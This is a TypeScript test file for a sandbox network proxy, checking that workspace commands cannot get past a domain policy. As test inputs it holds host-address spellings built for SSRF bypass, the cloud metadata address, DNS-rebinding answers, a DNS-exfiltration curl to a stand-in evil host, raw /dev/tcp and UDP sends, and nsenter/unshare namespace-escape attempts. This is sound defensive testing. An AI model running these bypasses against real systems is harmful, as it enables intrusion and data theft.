import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { networkInterfaces } from "node:os";
import { test } from "node:test";
import { policyOf } from "../sandbox/test-workspace.ts";
import {
  domains,
  get,
  hostAddress,
  httpHost,
  openNetworkWorkspace,
  runNode,
  tcpHost,
  toProxy,
} from "./network-workspace.ts";

// Each of these tries to get out, or to somewhere that is not allowed; whether it did is looked up from the outside.

const privateAddresses = (): string[] =>
  Object.values(networkInterfaces()).flatMap(
    (entries) => entries?.map(({ address }) => address.split("%")[0] ?? "") ?? [],
  );

test("nothing but the proxy can be connected to", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const everywhere = await tcpHost(t, "::");
  const { port } = everywhere;
  const tries = [...privateAddresses(), hostAddress, "::ffff:127.0.0.1", "0.0.0.0", "10.0.2.2", "1.1.1.1"];
  const { output } = await workspace.run(
    `${tries.map((address) => `timeout 2 cat < /dev/tcp/${address}/${port}`).join("; ")}; ${runNode(`require("net").connect(${port}, "::1").on("error", () => console.log("no IPv6"))`)}; getent hosts example.org; echo end`,
    domains(["*"]),
  );
  assert.match(output, /no IPv6\nend\n$/);
  assert.equal(everywhere.connections(), 0);
  assert.deepEqual(workspace.decisions, []);
});

test("no datagram gets out", async (t) => {
  const { run: script } = await openNetworkWorkspace(t);
  const socket = createSocket("udp4");
  const received: string[] = [];
  await new Promise<void>((resolve) => socket.bind(0, "0.0.0.0", resolve));
  t.after(() => socket.close());
  const { port } = socket.address();
  const marked = new Promise<void>((resolve) =>
    socket.on("message", (message) => {
      received.push(message.toString());
      if (message.toString() === "from outside") resolve();
    }),
  );
  const addresses = [...privateAddresses(), "255.255.255.255", "224.0.0.1"];
  await script(addresses.map((address) => `echo inside > /dev/udp/${address}/${port}`).join("; "), domains(["*"]));
  socket.send("from outside", port, "127.0.0.1");
  await marked;
  assert.deepEqual(received, ["from outside"]);
});

test("abstract sockets of the host are out of reach", async (t) => {
  const { run: script } = await openNetworkWorkspace(t);
  const name = `fettle-test-${process.pid}`;
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.end();
  });
  await new Promise<void>((resolve) => server.listen(`\0${name}`, resolve));
  t.after(() => server.close());
  const code = `require("net").connect("\\0${name}").on("error", (e) => console.log(e.code)).on("connect", () => console.log("in"))`;
  assert.equal((await script(runNode(code), domains(["*"]))).output, "ECONNREFUSED\n");
  assert.equal(connections, 0);
});

const spellings =
  `127.0.0.1 127.0.0.1. 2130706433 0x7f000001 0x7f.1 127.1 0177.0.0.1 0 0.0.0.0 127.9.9.9 %31%32%37.0.0.1 localhost LOCALHOST.
  [::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [64:ff9b::7f00:1] [64:ff9b:1::7f00:1] [2002:7f00:1::] 169.254.169.254`.split(
    /\s+/,
  );

test("addresses of the host are refused in every spelling, by every protocol", async (t) => {
  const workspace = await openNetworkWorkspace(t, { resolve: async () => ["127.0.0.1", "::1", "::ffff:127.0.0.1"] });
  const everywhere = await tcpHost(t, "::");
  const { port } = everywhere;
  const socks = (host: string): string =>
    toProxy(
      "\\x05\\x01\\x00",
      `\\x05\\x01\\x00\\x03\\x${host.length.toString(16).padStart(2, "0")}${host}\\x${(port >> 8).toString(16)}\\x${(port & 255).toString(16)}`,
    );
  const own = privateAddresses().map((address) => (address.includes(":") ? `[${address}]` : address));
  for (const host of [...spellings, ...own]) {
    const { output } = await workspace.run(
      `${get(`http://${host}:${port}/`, "Host: example.org\\r\\n")}; ${toProxy(`CONNECT ${host}:${port} HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n`)}; ${socks(host)}`,
      domains(["*"]),
    );
    assert.match(output, /^HTTP\/1\.1 (?:403|400).*\nHTTP\/1\.1 (?:403|400)/s, host);
    assert.doesNotMatch(output, /reached/);
  }
  const bytes = "\\x05\\x01\\x00";
  const hex = `\\x${(port >> 8).toString(16)}\\x${(port & 255).toString(16)}`;
  await workspace.run(
    `${toProxy(bytes, `\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01${hex}`)}; ${toProxy(bytes, `\\x05\\x01\\x00\\x04${"\\x00".repeat(15)}\\x01${hex}`)}; ${toProxy(bytes, `\\x05\\x01\\x00\\x04${"\\x00".repeat(10)}\\xff\\xff\\x7f\\x00\\x00\\x01${hex}`)}`,
    domains(["*"]),
  );
  assert.equal(everywhere.connections(), 0);
  assert.deepEqual(
    workspace.decisions.filter(({ allowed }) => allowed),
    [],
  );
  assert.ok(workspace.decisions.length > spellings.length * 2);
  // A question about such an address would tempt somebody to say yes.
  assert.deepEqual(workspace.asked, []);
});

test("a denied host stays denied in every spelling, and as the address of another name", async (t) => {
  const workspace = await openNetworkWorkspace(t, { resolve: async () => [hostAddress] });
  const host = await httpHost(t);
  const policy = domains([hostAddress, "*"], { deny: [hostAddress, "bad.example"] });
  for (const spelling of [hostAddress, "0x7f.2", "2130706434", "[::ffff:7f00:2]", "BAD.example.", "good.example"]) {
    assert.match(
      (await workspace.run(get(`http://${spelling}:${host.port}/`, "Host: x\\r\\n"), policy)).output,
      /^HTTP\/1\.1 403/,
    );
  }
  assert.deepEqual(host.seen, []);
});

test("a redirect to the host is refused like any request", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const secret = await httpHost(t, (_request, response) => response.end("SECRET"), "127.0.0.1");
  const host = await httpHost(t, (_request, response) =>
    response.writeHead(302, { location: `http://127.0.0.1:${secret.port}/` }).end(),
  );
  const { output } = await workspace.run(
    `NO_PROXY= no_proxy= curl -sSL http://${hostAddress}:${host.port}/`,
    domains([hostAddress]),
  );
  assert.match(output, /^fettle: 127\.0\.0\.1:\d+ is refused/);
  assert.deepEqual([host.seen.length, secret.seen.length], [1, 0]);
});

test("a name leads only to addresses that were checked, and is looked up once", async (t) => {
  const answers: string[][] = [["127.0.0.1"], [hostAddress], ["127.0.0.1"], ["127.0.0.1", "::1", hostAddress], []];
  const asked: string[] = [];
  const workspace = await openNetworkWorkspace(t, {
    resolve: async (name) => {
      asked.push(name);
      return answers[asked.length - 1] ?? [];
    },
  });
  const host = await httpHost(t);
  const forbidden = await tcpHost(t, "127.0.0.1", "reached\n", host.port);
  const fetchName = `curl -s -o /dev/null -w '%{http_code} ' http://rebind.example:${host.port}/`;
  const { output } = await workspace.run(Array(5).fill(fetchName).join("; "), domains(["rebind.example", hostAddress]));
  assert.equal(output, "403 200 403 200 502 ");
  assert.deepEqual(asked, Array(5).fill("rebind.example"));
  assert.equal(forbidden.connections(), 0);
  assert.deepEqual(host.seen, Array(2).fill(`GET / rebind.example:${host.port}`));
});

test("a name is not looked up before it is allowed, for a name can carry data", async (t) => {
  const asked: string[] = [];
  const workspace = await openNetworkWorkspace(t, {
    resolve: async (name) => {
      asked.push(name);
      return [];
    },
  });
  await workspace.run(
    "curl -s http://secret.evil.example; curl -s https://secret.evil.example",
    domains(["good.example"]),
  );
  assert.deepEqual(asked, []);
  assert.deepEqual(
    workspace.asked.map(({ host, port, protocol, method }) => [host, port, protocol, method]),
    [
      ["secret.evil.example", 80, "http", "GET"],
      ["secret.evil.example", 443, "connect", null],
    ],
  );
});

test("tunnels lead to the port that is allowed", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const [open, other] = [await httpHost(t), await httpHost(t)];
  const { output } = await workspace.run(
    [open.port, other.port]
      .map((port) => `curl -sS -p -o /dev/null -w '%{http_connect} ' http://${hostAddress}:${port}/ 2>/dev/null`)
      .join("; "),
    domains([`${hostAddress}:${open.port}`]),
  );
  assert.equal(output, "200 403 ");
  assert.deepEqual([open.seen.length, other.seen.length], [1, 0]);
});

test("with some methods allowed, others and all tunnels are refused", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await httpHost(t);
  const url = `http://${hostAddress}:${host.port}/`;
  const status = "curl -s -o /dev/null -w '%{http_code}/%{http_connect} '";
  const { output } = await workspace.run(
    `${status} ${url}; ${status} -I ${url}; ${status} -d x ${url}; ${status} -X DELETE ${url}; ${status} -p ${url}; ${status} -x socks5h://127.0.0.1:3128 ${url}`,
    domains([hostAddress], { methods: ["GET", "HEAD"] }),
  );
  assert.equal(output, "200/000 200/000 403/000 403/000 000/403 000/000 ");
  assert.equal(host.seen.length, 2);
});

test("one thread's commands cannot use another thread's permissions", async (t) => {
  const [allowed, closed] = [await openNetworkWorkspace(t), await openNetworkWorkspace(t)];
  const host = await httpHost(t);
  const url = `http://${hostAddress}:${host.port}/`;
  assert.equal((await allowed.run(`curl -s ${url}`, domains([hostAddress]))).output, "hello\n");
  const { output } = await closed.run(`curl -s ${url}; readlink /proc/self/ns/net`, domains());
  assert.match(output, /is refused/);
  const own = (await allowed.run("readlink /proc/self/ns/net", domains())).output;
  assert.ok(own.startsWith("net:[") && !output.includes(own));
  assert.deepEqual([host.seen.length, allowed.decisions.length, closed.decisions.length], [1, 1, 1]);
});

test("a stricter policy holds at once, for open tunnels too", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await tcpHost(t, hostAddress, "hi\n");
  const at = `${hostAddress}:${host.port}`;
  const running = workspace.run(
    `(exec 9<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT ${at} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&9; cat <&9; echo over)`,
    domains([at]),
  );
  await host.until((open) => open === 1);
  await workspace.run("true", domains([at], { deny: [at] }));
  await host.until((open) => open === 0);
  assert.match((await running).output, /over\n$/);
});

test("a command cannot change its network or leave it", async (t) => {
  const workspace = await openNetworkWorkspace(t);
  const host = await tcpHost(t, "127.0.0.1");
  const { output } = await workspace.run(
    `exec 2>&1; before=$(readlink /proc/self/ns/net)
    ip link set lo down; ip addr add 127.77.0.1/8 dev lo; ip link add dummy0 type dummy; ip route add default dev lo; ip tuntap add mode tun
    ip netns add x; nsenter -t 1 -n true && echo ENTERED; nsenter --preserve-credentials -U -n -t 1 true && echo ENTERED; unshare -n true && echo UNSHARED; unshare -Urn true && echo UNSHARED
    for ns in /proc/[0-9]*/ns/net; do [ "$(readlink $ns)" = "$before" ] || echo OTHER $ns; nsenter --net=$ns true && echo ENTERED; done
    cat < /dev/tcp/127.0.0.1/${host.port}; grep -h Cap /proc/self/status | tr -d '0\\t\\n'; ls -l /proc/self/fd /proc/1/fd | grep -E 'ns/|net:|user:|socket:' && echo LEAK`,
    domains(["*"]),
  );
  assert.doesNotMatch(output, /ENTERED|UNSHARED|OTHER|LEAK|reached/);
  assert.match(output, /CapInh:CapPrm:CapEff:CapBnd:CapAmb:/);
  const { output: after } = await workspace.run("ip -o addr; ip route; ip -o link | wc -l", domains());
  assert.match(after, /^1: lo +inet 127\.0\.0\.1\/8 [^\n]*\n1: lo +inet6 ::1\/128 [^\n]*\n1\n$/);
  assert.equal(host.connections(), 0);
});

test("a command has the same descriptors and environment as without a network, but for variables of proxy and caches", async (t) => {
  const { workspace, root } = await openNetworkWorkspace(t);
  const look = async (policy: Parameters<typeof policyOf>[0]): Promise<string> => {
    const script =
      "for d in /proc/self/fd/*; do echo ${d##*/}; done; tr '\\0' '\\n' < /proc/1/environ | grep -vi -e proxy -e cache | sort";
    const started = await workspace.start({ script, cwd: root, policy: policyOf(policy) });
    assert.ok(started.ok);
    let output = "";
    started.command.onOutput((chunk) => {
      output += chunk.toString();
    });
    await started.command.exited;
    return output;
  };
  assert.equal(await look({ network: domains(["*"]) }), await look({}));
});
